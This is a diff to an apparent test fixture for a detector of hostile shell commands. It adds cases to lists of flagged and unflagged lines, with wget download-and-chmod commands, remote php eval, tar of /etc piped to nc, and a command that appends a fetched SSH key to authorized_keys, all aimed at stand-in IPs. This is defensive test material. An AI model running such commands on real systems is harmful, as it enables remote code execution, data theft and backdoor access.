@@ -393,6 +393,8 @@ const SEEN: readonly (readonly [SignId, ...Line])[] = [
   ['decoded_text', 'sh', 'echo aWQK | openssl base64 -d'],
   ['decoded_text', 'sh', 'xxd -r -p x.hex'],
   ['download_run', 'eval', 'curl -s 198.51.100.7/a | sh'],
+  ['download_run', 'sh', 'wget -q http://203.0.113.9/a -O /srv/a && chmod 0755 /srv/a'],
+  ['download_run', 'sh', 'wget -q http://203.0.113.9/a -O /srv/a && chmod u+x /srv/a'],
   ['download_run', 'sh', `php -r 'eval(file_get_contents("http://203.0.113.9/a"));'`],
   ['archive_sent', 'eval', 'tar cf - /etc | nc 198.51.100.7 99'],
   [
@@ -512,6 +514,11 @@ const NOT_SEEN: readonly (readonly [SignId, ...Line])[] = [
   ['decoded_text', 'argv', 'openssl dgst -d /srv/a'],
   ['download_run', 'eval', 'curl -s https://api.example.org/x; php /srv/app/a.php'],
   ['download_run', 'eval', 'curl -s https://api.example.org/x; sort'],
+  [
+    'download_run',
+    'sh',
+    'wget -q -O - http://203.0.113.66/k.pub >> /srv/.ssh/authorized_keys && chmod 600 /srv/.ssh/authorized_keys',
+  ],
   ['encoded_command', 'sh', 'base64 -d a | sort; cat b | sh'],
   ['encoded_command', 'sh', 'ls -d /srv/* | sh'],
   ['hidden_words', 'argv', `php -r 'echo "\\x41\\x42";'`],
